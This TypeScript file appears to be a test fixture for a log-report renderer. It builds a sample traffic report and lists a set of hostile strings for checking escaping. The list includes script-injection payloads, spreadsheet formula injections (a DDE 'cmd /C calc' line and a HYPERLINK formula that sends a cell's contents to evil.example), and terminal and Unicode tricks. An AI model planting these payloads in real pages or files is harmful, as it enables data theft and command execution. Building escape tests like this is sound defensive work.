import { HOUR, MINUTE, type Micros } from '../../core/time.ts'
import type { Block, ReportDocument } from '../block.ts'

/** What attackers write into logs: for browsers, terminals, spreadsheets, eyes. */
export const HOSTILE = [
  '<img src=x onerror=document.title="owned">',
  '</script><script>document.title="owned"</script>',
  '</style><style>*{display:none}</style>',
  '--><svg onload=document.title="owned">',
  `"'onmouseover="document.title='owned'" x="`,
  '&lt;b&gt;&#x3C;i&#x3E;',
  'javascript:document.title="owned"',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '"=1+1',
  "+1;=cmd|' /C calc'!A0,@SUM(1)",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a\u202egnp.exe',
  'zero\u200bwidth',
  '\u001b[31mred\u001b[0m',
  'half \ud800 pair',
  'nul\u0000nul',
  'line\nbreak\r\n"quote"',
  'x'.repeat(3000)
]

/** A Saturday in Berlin, from midnight on. */
export const SAMPLE_START: Micros = Date.UTC(2026, 0, 30, 23) * 1000

/** A report with a block of each type. `text` stands where logs and file names do. */
export function sampleReport(text = '/index.html'): ReportDocument {
  const to = SAMPLE_START + 24 * HOUR
  return {
    subject: `${text}: 2 problems on Saturday`,
    verdict: { tone: 'critical', sentence: `5.0 % of the requests failed from 13:00 on: ${text}.` },
    period: { from: SAMPLE_START, to, zone: 'Europe/Berlin' },
    facts: [
      { name: 'Period', text: '2026-01-31 00:00:00 to 2026-02-01 00:00:00, Europe/Berlin (1 d)' },
      { name: 'Sources', text }
    ],
    blocks: [...figures(text), ...charts(text, to), ...tables(text), ...words(text)],
    link: 'https://visor.example.org/?from=1769814000000&to=1769900400000'
  }
}

function figures(text: string): Block[] {
  return [
    {
      type: 'figures',
      name: 'totals',
      title: 'In all',
      figures: [
        {
          label: 'Requests',
          unit: 'count',
          value: 120_000,
          compared: [
            { label: 'the day before', value: 100_000 },
            { label: 'last Saturday', value: undefined }
          ]
        },
        {
          label: 'Errors',
          unit: 'share',
          value: 0.05,
          tone: 'critical',
          compared: [{ label: 'the day before', value: 0.01, more: 'bad' }]
        },
        { label: 'Sent', unit: 'bytes', value: 3.5e9, compared: [{ label: 'the day before', value: 4e9 }] },
        { label: 'Import rate', unit: 'rate', value: 1.38889, note: `at most 52/s at 13:05, from ${text}` },
        { label: 'Latency, p95', unit: 'seconds', value: undefined, missing: 'not in this format' },
        { label: 'Outage', unit: 'span', value: 1260, tone: 'warning' }
      ]
    }
  ]
}

/** Requests of an hour. */
function day(hour: number): number {
  return 5000 + 2500 * Math.sin((hour - 9) / 4)
}

function charts(text: string, to: Micros): Block[] {
  const time = Array.from({ length: 24 }, (_, i) => SAMPLE_START + i * HOUR)
  const known = (value: (hour: number) => number): (number | undefined)[] =>
    time.map((_, hour) => (hour === 4 ? undefined : Math.round(value(hour))))
  return [
    {
      type: 'chart',
      name: 'requests-over-time',
      title: 'Requests by status',
      group: 'Over time',
      time,
      to,
      whole: 'requests',
      series: [
        { label: '5xx', unit: 'count', tone: 'critical', values: known(hour => (hour === 13 ? 1800 : 12)) },
        { label: '4xx', unit: 'count', tone: 'warning', values: known(hour => day(hour) / 20) },
        { label: '2xx', unit: 'count', tone: 'success', values: known(day) },
        { label: 'bytes', unit: 'bytes', tone: 'info', line: true, values: known(hour => day(hour) * 29_000) }
      ],
      marks: [
        {
          from: SAMPLE_START + 13 * HOUR,
          to: SAMPLE_START + 13 * HOUR + 21 * MINUTE,
          label: `Error rate, ${text}`,
          tone: 'critical'
        },
        { from: SAMPLE_START + 15 * HOUR, label: 'Restart', tone: 'other' }
      ]
    }
  ]
}

function tables(text: string): Block[] {
  const rows = Array.from({ length: 12 }, (_, i) => ({
    cells: [
      i === 0 ? text : i === 1 ? '' : `/page/${i}`,
      1200 - i * 90,
      (1200 - i * 90) / 12_000,
      9e6 - i * 7e5
    ],
    query: `path:"/page/${i}"`
  }))
  return [
    {
      type: 'table',
      name: 'path',
      title: 'Paths',
      group: 'Requested',
      note: '40 distinct',
      columns: [
        { label: 'Paths', unit: 'log', fills: true },
        { label: 'Requests', unit: 'count' },
        { label: 'Share', unit: 'share', bar: true },
        { label: 'Bytes', unit: 'bytes' }
      ],
      rows,
      more: 28,
      rest: [undefined, 1400, 1400 / 12_000, 2e6]
    },
    {
      type: 'table',
      name: 'visitors-by-day',
      title: 'Visitors by day',
      group: 'Clients',
      columns: [
        { label: 'Day', unit: 'day' },
        { label: 'Visitors', unit: 'count' },
        { label: 'First seen', unit: 'time' }
      ],
      rows: [
        { cells: [SAMPLE_START, 4321, SAMPLE_START + 5], tone: 'success' },
        { cells: [SAMPLE_START - 24 * HOUR, undefined, undefined] }
      ]
    }
  ]
}

function words(text: string): Block[] {
  return [
    {
      type: 'samples',
      name: 'rejected',
      title: `Rejected in ${text}`,
      note: '3 of 40 lines',
      samples: [{ text, about: 'line 7, column 1: an address was expected' }],
      more: 2
    },
    {
      type: 'paragraph',
      name: 'quality',
      title: 'What these logs do not tell',
      sentences: ['How long requests took.', `Nothing is known from 04:00 to 05:00: ${text} was not watched.`]
    }
  ]
}
